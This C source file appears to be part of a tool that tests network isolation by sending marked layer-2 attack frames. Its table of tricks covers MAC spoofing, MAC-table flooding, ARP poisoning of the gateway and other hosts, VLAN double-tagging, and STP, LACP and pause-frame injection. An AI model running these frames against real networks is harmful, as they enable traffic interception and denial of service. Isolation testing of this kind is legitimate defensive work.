/* Below IP: other stations' addresses, ARP, tags, and protocols of switches. */
#include "tricks.h"

#include <stdlib.h>
#include <string.h>

static const uint8_t NOBODY[6] = {0x02, 0xbe, 0xef, 0, 0, 1}, ZERO[6] = {0}, PEER[6] = {0x52, 0x54, 0, 0xee, 0xee, 0xee};

static const uint8_t *victim_mac(struct world *w) {
    return set(w->victim_mac, 6) ? w->victim_mac : BROADCAST;
}

static void marked_udp(struct world *w, const uint8_t *from_mac, const uint8_t *from, const uint8_t *to_mac, const uint8_t *to) {
    struct frame f, data = {.length = 0};
    mark(&data, w->trick);
    begin(&f, to_mac, from_mac, 0x0800);
    udp4(&f, from, to, 7777, 7777, data.bytes, data.length);
    transmit(w, &f);
}

static void source_random(struct world *w) { marked_udp(w, NOBODY, w->ip, victim_mac(w), w->victim); }
static void source_victim(struct world *w) { marked_udp(w, w->victim_mac, w->ip, BROADCAST, w->victim); }
static void source_gateway(struct world *w) { marked_udp(w, w->gateway_mac, w->ip, victim_mac(w), w->victim); }
static void source_service(struct world *w) { marked_udp(w, w->service_mac, w->ip, victim_mac(w), w->victim); }
static void source_multicast(struct world *w) {
    uint8_t group[6] = {0x01, 0, 0x5e, 0, 0, 1};
    marked_udp(w, group, w->ip, victim_mac(w), w->victim);
}
static void source_zero(struct world *w) { marked_udp(w, ZERO, w->ip, victim_mac(w), w->victim); }

static void mac_flood(struct world *w) {
    for (int i = 0; i < 2000; i++) {
        uint8_t from[6] = {0x02, 0xf1, 0, 0, i >> 8, i};
        marked_udp(w, from, w->ip, BROADCAST, w->victim);
    }
}

static void say_arp(struct world *w, const uint8_t *to, const uint8_t *from, int operation, const uint8_t *sender_mac, const uint8_t *sender,
    const uint8_t *target_mac, const uint8_t *target) {
    struct frame f;
    arp(&f, to, from, operation, sender_mac, sender, target_mac, target);
    mark(&f, w->trick);
    transmit(w, &f);
}

static void arp_gateway_to_victim(struct world *w) { say_arp(w, victim_mac(w), w->mac, 2, w->mac, w->gateway, w->victim_mac, w->victim); }
static void arp_victim_to_service(struct world *w) { say_arp(w, w->service_mac, w->mac, 2, w->mac, w->victim, w->service_mac, w->service); }
static void arp_service_to_victim(struct world *w) { say_arp(w, victim_mac(w), w->mac, 2, w->mac, w->service, w->victim_mac, w->victim); }
static void arp_gratuitous(struct world *w) { say_arp(w, BROADCAST, w->mac, 2, w->mac, w->victim, BROADCAST, w->victim); }
static void arp_gratuitous_request(struct world *w) { say_arp(w, BROADCAST, w->mac, 1, w->mac, w->victim, ZERO, w->victim); }
static void arp_foreign_body(struct world *w) { say_arp(w, victim_mac(w), w->mac, 2, NOBODY, w->ip, w->victim_mac, w->victim); }
static void arp_poison_by_request(struct world *w) { say_arp(w, BROADCAST, w->mac, 1, w->mac, w->service, ZERO, w->victim); }
static void arp_metadata(struct world *w) {
    uint8_t metadata[4] = {169, 254, 169, 254};
    say_arp(w, BROADCAST, w->mac, 2, w->mac, metadata, BROADCAST, metadata);
}
static void arp_inverse(struct world *w) { say_arp(w, BROADCAST, w->mac, 9, w->mac, w->victim, NOBODY, w->victim); }
static void arp_storm(struct world *w) {
    for (int i = 0; i < 3000; i++) {
        uint8_t target[4] = {w->ip[0], w->ip[1], i >> 8, i};
        say_arp(w, BROADCAST, w->mac, 1, w->mac, w->ip, ZERO, target);
    }
}
static void rarp(struct world *w) {
    struct frame f;
    arp(&f, BROADCAST, w->mac, 3, w->victim_mac, w->victim, w->victim_mac, w->victim);
    f.bytes[12] = 0x80, f.bytes[13] = 0x35;
    mark(&f, w->trick);
    transmit(w, &f);
}

/* The tag or tags, then a packet with the victim's own source: who looks only behind the first type sees nothing. */
static void tagged(struct world *w, int outer, int inner_type, int tag) {
    struct frame f, data = {.length = 0};
    mark(&data, w->trick);
    begin(&f, victim_mac(w), w->mac, outer);
    put16(&f, tag);
    if (inner_type) {
        put16(&f, inner_type);
        put16(&f, tag + 1);
    }
    put16(&f, 0x0800);
    udp4(&f, w->service, w->victim, 67, 68, data.bytes, data.length);
    transmit(w, &f);
}
static void vlan(struct world *w) { tagged(w, 0x8100, 0, 7); }
static void vlan_priority(struct world *w) { tagged(w, 0x8100, 0, 0xe000); }
static void vlan_native(struct world *w) { tagged(w, 0x8100, 0, 1); }
static void qinq(struct world *w) { tagged(w, 0x88a8, 0x8100, 7); }
static void double_tag(struct world *w) { tagged(w, 0x8100, 0x8100, 1); }
static void qinq_old(struct world *w) { tagged(w, 0x9100, 0x8100, 7); }

static void vlan_arp(struct world *w) {
    struct frame f, inner;
    arp(&inner, BROADCAST, w->mac, 2, w->mac, w->victim, BROADCAST, w->victim);
    begin(&f, BROADCAST, w->mac, 0x8100);
    put16(&f, 0);
    put(&f, inner.bytes + 12, inner.length - 12);
    mark(&f, w->trick);
    transmit(w, &f);
}

/* To a group of stations, of the type, with a head. */
static void link_frame(struct world *w, const char *to, int type, const char *head, int size) {
    struct frame f;
    begin(&f, (const uint8_t *)to, w->mac, type);
    put(&f, head, size);
    mark(&f, w->trick);
    transmit(w, &f);
}
static void lldp(struct world *w) { link_frame(w, "\x01\x80\xc2\0\0\x0e", 0x88cc, "\x02\x07\x04\x02\0\0\0\0\x01\x04\x02\x07\x61\x06\x02\0\x78", 17); }
static void stp(struct world *w) {
    link_frame(w, "\x01\x80\xc2\0\0\0", 38, "\x42\x42\x03\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x80\x01\0\0\x14\0\x02\0\x0f\0", 38);
}
static void eapol(struct world *w) { link_frame(w, "\x01\x80\xc2\0\0\x03", 0x888e, "\x01\x01\0\0", 4); }
static void lacp(struct world *w) { link_frame(w, "\x01\x80\xc2\0\0\x02", 0x8809, "\x01\x01\x01\x14", 4); }
static void pause_frame(struct world *w) { link_frame(w, "\x01\x80\xc2\0\0\x01", 0x8808, "\0\x01\xff\xff", 4); }
static void pppoe(struct world *w) { link_frame(w, (const char *)BROADCAST, 0x8863, "\x11\x09\0\0\0\x04\x01\x01\0\0", 10); }
static void pppoe_session(struct world *w) { link_frame(w, (const char *)victim_mac(w), 0x8864, "\x11\0\0\x01\0\x06\0\x21", 8); }
static void cdp(struct world *w) { link_frame(w, "\x01\0\x0c\xcc\xcc\xcc", 40, "\xaa\xaa\x03\0\0\x0c\x20\0\x02\xb4", 10); }
static void mpls(struct world *w) { link_frame(w, (const char *)victim_mac(w), 0x8847, "\0\x01\x01\x40", 4); }
static void macsec(struct world *w) { link_frame(w, (const char *)victim_mac(w), 0x88e5, "\0\0\0\0\0\x01", 6); }
static void unknown_type(struct world *w) { link_frame(w, (const char *)victim_mac(w), 0x88b5, "", 0); }
static void ipx(struct world *w) { link_frame(w, (const char *)BROADCAST, 0x8137, "\xff\xff", 2); }
static void snap_ip(struct world *w) {
    struct frame f, data = {.length = 0};
    mark(&data, w->trick);
    begin(&f, victim_mac(w), w->mac, 60);
    put(&f, "\xaa\xaa\x03\0\0\0\x08\0", 8);
    udp4(&f, w->service, w->victim, 67, 68, data.bytes, data.length);
    transmit(w, &f);
}
static void to_foreign_station(struct world *w) { marked_udp(w, w->mac, w->ip, set(w->foreign_mac, 6) ? w->foreign_mac : PEER, w->foreign); }
static void broadcast_flood(struct world *w) {
    uint8_t all[4] = {255, 255, 255, 255};
    for (int i = 0; i < 3000; i++) marked_udp(w, w->mac, w->ip, BROADCAST, all);
}
static void multicast_flood(struct world *w) {
    uint8_t group[6] = {0x01, 0, 0x5e, 1, 2, 3}, address[4] = {239, 1, 2, 3};
    for (int i = 0; i < 3000; i++) marked_udp(w, w->mac, w->ip, group, address);
}
static void unknown_unicast_flood(struct world *w) {
    for (int i = 0; i < 2000; i++) {
        uint8_t to[6] = {0x52, 0x54, 0, 0xee, i >> 8, i};
        marked_udp(w, w->mac, w->ip, to, w->victim);
    }
}

const struct trick link_tricks[] = {
    {"source-mac-random", source_random, NEEDS_VICTIM},
    {"source-mac-victim", source_victim, NEEDS_VICTIM},
    {"source-mac-gateway", source_gateway, NEEDS_VICTIM | NEEDS_GATEWAY},
    {"source-mac-service", source_service, NEEDS_VICTIM | NEEDS_SERVICE},
    {"source-mac-multicast", source_multicast, NEEDS_VICTIM},
    {"source-mac-zero", source_zero, NEEDS_VICTIM},
    {"mac-flood", mac_flood, NEEDS_VICTIM},
    {"arp-gateway-to-victim", arp_gateway_to_victim, NEEDS_VICTIM | NEEDS_GATEWAY},
    {"arp-victim-to-service", arp_victim_to_service, NEEDS_VICTIM | NEEDS_SERVICE},
    {"arp-service-to-victim", arp_service_to_victim, NEEDS_VICTIM | NEEDS_SERVICE},
    {"arp-gratuitous", arp_gratuitous, NEEDS_VICTIM},
    {"arp-gratuitous-request", arp_gratuitous_request, NEEDS_VICTIM},
    {"arp-foreign-body", arp_foreign_body, NEEDS_VICTIM},
    {"arp-poison-by-request", arp_poison_by_request, NEEDS_VICTIM | NEEDS_SERVICE},
    {"arp-metadata", arp_metadata, 0},
    {"arp-inverse", arp_inverse, NEEDS_VICTIM},
    {"arp-storm", arp_storm, 0},
    {"rarp", rarp, NEEDS_VICTIM},
    {"vlan", vlan, NEEDS_VICTIM | NEEDS_SERVICE},
    {"vlan-priority", vlan_priority, NEEDS_VICTIM | NEEDS_SERVICE},
    {"vlan-native", vlan_native, NEEDS_VICTIM | NEEDS_SERVICE},
    {"vlan-arp", vlan_arp, NEEDS_VICTIM},
    {"qinq", qinq, NEEDS_VICTIM | NEEDS_SERVICE},
    {"qinq-old", qinq_old, NEEDS_VICTIM | NEEDS_SERVICE},
    {"double-tag", double_tag, NEEDS_VICTIM | NEEDS_SERVICE},
    {"lldp", lldp, 0},
    {"stp", stp, 0},
    {"eapol", eapol, 0},
    {"lacp", lacp, 0},
    {"pause", pause_frame, 0},
    {"pppoe-discovery", pppoe, 0},
    {"pppoe-session", pppoe_session, 0},
    {"cdp", cdp, 0},
    {"mpls", mpls, 0},
    {"macsec", macsec, 0},
    {"unknown-type", unknown_type, 0},
    {"ipx", ipx, 0},
    {"snap-ip", snap_ip, NEEDS_VICTIM | NEEDS_SERVICE},
    {"foreign-station", to_foreign_station, NEEDS_FOREIGN},
    {"broadcast-flood", broadcast_flood, 0},
    {"multicast-flood", multicast_flood, 0},
    {"unknown-unicast-flood", unknown_unicast_flood, NEEDS_VICTIM},
    {0, 0, 0},
};
